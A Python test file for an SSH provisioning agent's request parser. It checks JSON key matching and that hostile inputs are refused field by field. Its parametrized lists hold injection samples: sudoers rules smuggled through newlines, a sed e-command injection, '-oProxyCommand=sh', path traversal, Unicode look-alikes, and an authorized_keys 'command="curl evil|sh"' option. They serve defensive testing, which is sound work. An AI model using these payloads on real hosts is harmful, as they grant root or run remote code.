"""Request validation: Go-compatible member lookup (§5.3) and every hostile input of §12 refused by field."""

from __future__ import annotations

import base64
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from p0_ssh_agent.core import messages
from p0_ssh_agent.core.requests import (
    RESERVED_USER_NAMES,
    Action,
    AuditRequest,
    CaKeyRequest,
    Command,
    KeyRequest,
    ListUsersRequest,
    RequestInvalid,
    SessionRequest,
    SudoRequest,
    SudoshRequest,
    UserRequest,
    parse_request,
)

KEY_BLOB = (11).to_bytes(4, "big") + b"ssh-ed25519" + (32).to_bytes(4, "big") + bytes(range(32))
KEY = f"ssh-ed25519 {base64.b64encode(KEY_BLOB).decode()} alice@laptop"
INJECTED_RULE = "ALL ALL=(ALL) NOPASSWD: ALL"


def grant(command: str, **extra: object) -> dict[str, object]:
    return {"command": command, "userName": "alice", "action": "grant", "requestId": "req12345", **extra}


def refused(command: str, data: dict[str, object]) -> RequestInvalid:
    with pytest.raises(RequestInvalid) as caught:
        parse_request(command, data)
    error = caught.value
    assert error.field in error.message or error.field == "command", error.message
    assert "\n" not in error.message
    return error


def test_each_command_gives_its_typed_request() -> None:
    assert parse_request("provisionUser", grant("provisionUser")) == UserRequest(
        Command.PROVISION_USER, "alice", Action.GRANT, "req12345"
    )
    key_request = parse_request("provisionAuthorizedKeys", grant("provisionAuthorizedKeys", publicKey=KEY))
    assert isinstance(key_request, KeyRequest)
    assert key_request.key is not None and key_request.key.line() == KEY
    ca_request = parse_request("provisionCAKeys", grant("provisionCAKeys", caPublicKey=KEY))
    assert isinstance(ca_request, CaKeyRequest)
    assert ca_request.key is not None and ca_request.key.line() == KEY
    assert parse_request("provisionSudo", grant("provisionSudo", sudo=True)) == SudoRequest(
        Command.SUDO, "alice", Action.GRANT, "req12345", sudo=True, run_as=None
    )
    session = {"userName": "alice", "action": "revoke", "requestId": "req12345"}
    assert parse_request("provisionSession", session) == SessionRequest(
        Command.SESSION, "alice", Action.REVOKE, "req12345"
    )
    assert parse_request("listUsers", {}) == ListUsersRequest(Command.LIST_USERS)
    assert parse_request("runAudit", {"userName": "whatever"}) == AuditRequest(Command.RUN_AUDIT)
    assert parse_request("collectSudoshRecordings", {"userName": "alice"}) == SudoshRequest(
        Command.COLLECT_SUDOSH, "alice", 0, 9999999999
    )


def test_unknown_command_names_the_field_and_stays_one_line() -> None:
    assert refused("provisionRoot", {}).message == "unknown command: provisionRoot"
    error = refused("x\ny", {})
    assert error.field == "command"
    assert error.message == 'unknown command: "x\\ny"'
    assert refused("ProvisionUser", grant("provisionUser")).field == "command"  # command names are exact


def test_keys_match_case_insensitively_like_go() -> None:
    data: dict[str, object] = {"USERNAME": "alice", "Action": "revoke", "requestid": "r1", "PublicKey": KEY}
    request = parse_request("provisionAuthorizedKeys", data)
    assert request == KeyRequest(Command.AUTHORIZED_KEYS, "alice", Action.REVOKE, "r1", None)


def test_unknown_keys_are_ignored() -> None:
    data = grant("provisionUser", **{"loginShell": "/bin/sh", "uid": 0, "extra": {"nested": [1, 2]}})
    assert parse_request("provisionUser", data) == UserRequest(
        Command.PROVISION_USER, "alice", Action.GRANT, "req12345"
    )


def test_two_spellings_of_one_member_are_ambiguous() -> None:
    error = refused("provisionUser", {"userName": "alice", "username": "root", "action": "grant", "requestId": "r"})
    assert error.field == "userName"
    assert "ambiguous" in error.message
    # Even for a command that does not read the member, and even when both values agree.
    assert refused("listUsers", {"sudo": True, "SUDO": True}).field == "sudo"


def test_unicode_folding_look_alike_keys_are_refused() -> None:
    # Go's encoding/json folds the long s (U+017F) onto s and the Kelvin sign (U+212A) onto k.
    error = refused("provisionSudo", grant("provisionSudo", **{"\u017fudo": True}))
    assert error.field == "sudo"
    assert "not ASCII" in error.message
    assert refused("provisionAuthorizedKeys", {"publicKey": "", "public\u212aey": KEY}).field == "publicKey"


def test_type_mismatch_fails_the_whole_request_like_go() -> None:
    error = refused("provisionSudo", grant("provisionSudo", sudo="true"))
    assert error.field == "sudo"
    assert error.message == "failed to unmarshal ProvisioningRequest: sudo must be a JSON boolean (got string)"
    assert refused("provisionUser", grant("provisionUser", sudo=1)).field == "sudo"  # unused by the command
    assert refused("listUsers", {"userName": 5}).message.endswith("userName must be a JSON string (got number)")
    assert "(got array)" in refused("provisionUser", {"userName": ["alice"]}).message
    assert "(got object)" in refused("provisionUser", {"requestId": {"$ne": ""}}).message
    assert "(got boolean)" in refused("provisionUser", {"action": True}).message


def test_null_means_absent_like_go() -> None:
    request = parse_request("provisionSudo", grant("provisionSudo", sudo=None, runAsUser=None, publicKey=None))
    assert request == SudoRequest(Command.SUDO, "alice", Action.GRANT, "req12345", sudo=False, run_as=None)


HOSTILE_USER_NAMES = [
    "",
    ".",
    "..",
    "Alice",
    "alice\n",
    f"alice\n{INJECTED_RULE}",
    "alice,bob",
    "alice(ALL)",
    "alice ALL=(ALL)",
    "-rf",
    "-oProxyCommand=sh",
    "9lives",
    "a" * 33,
    "alice\0",
    "\u0430lice",  # Cyrillic a
    "\uff41lice",  # fullwidth a
    "alic\u0435",  # Cyrillic e
    " alice",
    "alice ",
    "al ice",
    "../../etc",
    "alice/..",
    "a$b",
    "%admin",
    "#0",
]


@pytest.mark.parametrize("name", HOSTILE_USER_NAMES)
@pytest.mark.parametrize(
    "command", ["provisionUser", "provisionAuthorizedKeys", "provisionCAKeys", "provisionSudo", "provisionSession"]
)
def test_hostile_user_names_are_refused(command: str, name: str) -> None:
    data = grant(command, userName=name, action="revoke")
    assert refused(command, data).field == "userName"


@pytest.mark.parametrize("name", [*sorted(RESERVED_USER_NAMES), "systemd-network"])
def test_reserved_accounts_are_refused_for_changes(name: str) -> None:
    error = refused("provisionAuthorizedKeys", grant("provisionAuthorizedKeys", userName=name))
    assert error.field == "userName"
    assert "reserved" in error.message


def test_reserved_accounts_may_have_their_recordings_read() -> None:
    request = parse_request("collectSudoshRecordings", {"userName": "root"})
    assert isinstance(request, SudoshRequest) and request.user == "root"
    assert refused("collectSudoshRecordings", {"userName": "a\nb"}).field == "userName"


@pytest.mark.parametrize("name", ["a", "_", "_apt2", "alice-b", "a_b9", "p" * 32])
def test_valid_user_names_pass(name: str) -> None:
    assert parse_request("provisionUser", grant("provisionUser", userName=name)) == UserRequest(
        Command.PROVISION_USER, name, Action.GRANT, "req12345"
    )


HOSTILE_REQUEST_IDS = [
    "",
    "a/b",
    "x/,/^$/e id;#",  # the sed e-command injection of §12 item 1
    "1$",
    ".*",
    "a+",
    "a?",
    "a|b",
    "\\",
    "req\n",
    "req\nssh-ed25519 AAAA",
    "req 1",
    "req\0",
    "r" * 129,
    "\u0661\u0662",  # Arabic-Indic digits
    "\uff52eq",  # fullwidth r
]


@pytest.mark.parametrize("request_id", HOSTILE_REQUEST_IDS)
@pytest.mark.parametrize("command", ["provisionUser", "provisionAuthorizedKeys", "provisionCAKeys", "provisionSudo"])
def test_hostile_request_ids_are_refused(command: str, request_id: str) -> None:
    assert refused(command, grant(command, requestId=request_id, action="revoke")).field == "requestId"


@pytest.mark.parametrize("request_id", ["req12345", "cmd-001", "A_b-9", "-n", "--in-place", "r" * 128])
def test_valid_request_ids_pass_unchanged(request_id: str) -> None:
    # A leading '-' is harmless: ids never reach a command line, files are edited in-process.
    request = parse_request("provisionUser", grant("provisionUser", requestId=request_id))
    assert isinstance(request, UserRequest) and request.request_id == request_id


def test_missing_request_id_is_refused_for_provisioning_but_optional_for_sessions() -> None:
    data = grant("provisionAuthorizedKeys")
    del data["requestId"]
    assert refused("provisionAuthorizedKeys", data).message == "invalid requestId: missing or empty"
    session = parse_request("provisionSession", {"userName": "alice", "action": "revoke"})
    assert isinstance(session, SessionRequest) and session.request_id is None
    assert refused("provisionSession", {"userName": "alice", "action": "revoke", "requestId": "a/b"}).field == (
        "requestId"
    )


@pytest.mark.parametrize("action", ["", "GRANT", "Grant", "delete", "grant\n", "revoke "])
def test_bad_actions_get_the_upstream_message(action: str) -> None:
    error = refused("provisionSudo", grant("provisionSudo", action=action))
    assert (error.field, error.message) == ("action", "invalid action: must be 'grant' or 'revoke'")


def test_missing_action_gets_the_upstream_message() -> None:
    data = grant("provisionUser")
    del data["action"]
    assert refused("provisionUser", data).message == messages.INVALID_ACTION


@pytest.mark.parametrize("action", ["grant", "", "kill"])
def test_sessions_only_revoke(action: str) -> None:
    error = refused("provisionSession", grant("provisionSession", action=action))
    assert (error.field, error.message) == (
        "action",
        "ProvisionSession only supports 'revoke' action to terminate SSH connections",
    )


@pytest.mark.parametrize("value", ["", "N/A"])
def test_empty_and_na_keys_mean_no_key(value: str) -> None:
    assert parse_request("provisionAuthorizedKeys", grant("provisionAuthorizedKeys", publicKey=value)) == KeyRequest(
        Command.AUTHORIZED_KEYS, "alice", Action.GRANT, "req12345", None
    )
    request = parse_request("provisionCAKeys", grant("provisionCAKeys", caPublicKey=value))
    assert isinstance(request, CaKeyRequest) and request.key is None


@pytest.mark.parametrize(
    "hostile",
    [
        f'command="curl evil|sh" {KEY}',
        f'from="0.0.0.0/0" {KEY}',
        f"{KEY}\n{KEY}",
        f"{KEY}\nssh-rsa AAAA",
        f"-o {KEY}",
        f"{KEY}\0",
        "ssh-ed25519",
        "n/a",
    ],
)
@pytest.mark.parametrize(
    ("command", "member"), [("provisionAuthorizedKeys", "publicKey"), ("provisionCAKeys", "caPublicKey")]
)
def test_hostile_keys_are_refused_on_grant(command: str, member: str, hostile: str) -> None:
    assert refused(command, grant(command, **{member: hostile})).field == member


def test_revocations_do_not_read_the_key_but_check_its_type() -> None:
    legacy = f'command="echo legacy" {KEY}'  # a Go-era grant wrote options verbatim; its revoke must still work
    request = parse_request(
        "provisionAuthorizedKeys", grant("provisionAuthorizedKeys", action="revoke", publicKey=legacy)
    )
    assert request == KeyRequest(Command.AUTHORIZED_KEYS, "alice", Action.REVOKE, "req12345", None)
    assert refused("provisionCAKeys", grant("provisionCAKeys", action="revoke", caPublicKey=7)).field == "caPublicKey"


def test_sudo_run_as() -> None:
    def sudo(**extra: object) -> SudoRequest:
        request = parse_request("provisionSudo", grant("provisionSudo", **extra))
        assert isinstance(request, SudoRequest)
        return request

    assert (sudo(sudo=True, runAsUser="postgres").sudo, sudo(sudo=True, runAsUser="postgres").run_as) == (
        True,
        "postgres",
    )
    assert sudo(sudo=True, runAsUser="ALL").run_as is None
    assert sudo(sudo=True, runAsUser="root").run_as == "root"  # sudo -u root is what ALL allows anyway
    # Upstream skips only when neither sudo nor runAsUser asks for it; naming a run-as user is a request.
    assert not sudo(sudo=False).sudo
    assert not sudo().sudo
    assert sudo(sudo=False, runAsUser="postgres").sudo
    assert sudo(sudo=False, runAsUser="ALL").sudo
    revoke = sudo(action="revoke", sudo=True, runAsUser="(ALL) ALL\nx")
    assert (revoke.sudo, revoke.run_as) == (False, None)


@pytest.mark.parametrize(
    "run_as",
    ["root\nALL ALL=(ALL) NOPASSWD: ALL", "a,b", "ALL,root", "a)", "(ALL)", "ALL:ALL", "#0", "%admin", "all ", "all\n"],
)
def test_sudoers_injection_through_run_as_is_refused(run_as: str) -> None:
    assert refused("provisionSudo", grant("provisionSudo", sudo=True, runAsUser=run_as)).field == "runAsUser"


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("0", 0),
        ("1700000000", 1700000000),
        ("2026-03-11T17:41:21.035Z", 1773250881),  # the §6.8 example
        ("2026-03-11T17:41:21Z", 1773250881),
        ("2026-03-11T17:41:21.999999999Z", 1773250881),
        ("2024-01-01T02:00:00+02:00", 1704067200),
        ("2023-12-31T19:00:00-05:00", 1704067200),
        ("1970-01-01T00:00:00Z", 0),
    ],
)
def test_times_are_unix_seconds_or_rfc3339(text: str, seconds: int) -> None:
    request = parse_request("collectSudoshRecordings", {"userName": "alice", "startTime": text})
    assert isinstance(request, SudoshRequest) and request.start == seconds


@pytest.mark.parametrize(
    "text",
    [
        "yesterday",
        "-5",
        "1e9",
        "0x10",
        " 17",
        "17\n",
        "\u0661\u0662\u0663",  # Arabic-Indic digits: isdigit() says yes, we say no
        "2024-01-01",
        "2024-01-01 00:00:00Z",
        "2024-01-01T00:00:00",  # no zone: the host's local time would decide, so it is refused
        "2024-01-01T00:00:00z",
        "2024-13-01T00:00:00Z",
        "2024-02-30T00:00:00Z",
        "2024-01-01T24:00:00Z",
        "2024-01-01T00:00:00+24:00",
        "2024-01-01T00:00:00.Z",
        "2024-01-01T00:00:00.1234567890Z",
        "1969-12-31T23:59:59Z",
        "1" * 13,
    ],
)
def test_bad_times_get_the_upstream_message(text: str) -> None:
    error = refused("collectSudoshRecordings", {"userName": "alice", "endTime": text})
    assert error.field == "endTime"
    assert error.message == (
        f"invalid endTime format {messages.shown(text)}: must be a unix timestamp or ISO 8601 "
        "(e.g. 2024-01-01T00:00:00Z)"
    )


def test_end_before_start_is_refused() -> None:
    error = refused("collectSudoshRecordings", {"userName": "alice", "startTime": "10", "endTime": "5"})
    assert (error.field, error.message) == ("endTime", "invalid endTime: 5 is before startTime 10")


def is_user_name_by_hand(name: str) -> bool:
    """An independent statement of USER_NAME_RE: 1-32 characters of [a-z0-9_-], not starting with a digit or '-'."""
    allowed = set(string.ascii_lowercase + string.digits + "_-")
    return 1 <= len(name) <= 32 and set(name) <= allowed and name[0] not in string.digits + "-"


@given(st.text(max_size=40) | st.from_regex(r"[a-z_][a-z0-9_-]{0,34}", fullmatch=True))
def test_user_names_pass_exactly_when_valid_and_not_reserved(name: str) -> None:
    expected = is_user_name_by_hand(name) and name not in RESERVED_USER_NAMES and not name.startswith("systemd-")
    try:
        request = parse_request("provisionUser", grant("provisionUser", userName=name))
    except RequestInvalid as error:
        assert not expected
        assert error.field == "userName"
    else:
        assert expected
        assert isinstance(request, UserRequest) and request.user == name


@given(st.text(max_size=140))
def test_accepted_request_ids_hold_no_special_character(request_id: str) -> None:
    try:
        parse_request("provisionSudo", grant("provisionSudo", requestId=request_id))
    except RequestInvalid as error:
        assert error.field == "requestId"
    else:
        assert 1 <= len(request_id) <= 128
        assert set(request_id) <= set(string.ascii_letters + string.digits + "_-")


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=8,
)
MEMBER_NAMES = st.sampled_from(
    ["userName", "username", "action", "requestId", "publicKey", "caPublicKey", "sudo", "runAsUser", "startTime"]
)


@given(
    st.sampled_from([c.value for c in Command] + ["bogus"]),
    st.dictionaries(MEMBER_NAMES | st.text(max_size=8), JSON_VALUES | st.sampled_from(["alice", "grant", "r1", KEY])),
)
def test_any_json_object_gives_a_request_or_a_request_invalid(command: str, data: dict[str, object]) -> None:
    try:
        parse_request(command, data)
    except RequestInvalid as error:
        assert error.message
        assert "\n" not in error.message
        assert error.field in {"command", "userName", "action", "requestId", "publicKey", "caPublicKey"} | {
            "sudo",
            "runAsUser",
            "startTime",
            "endTime",
        }
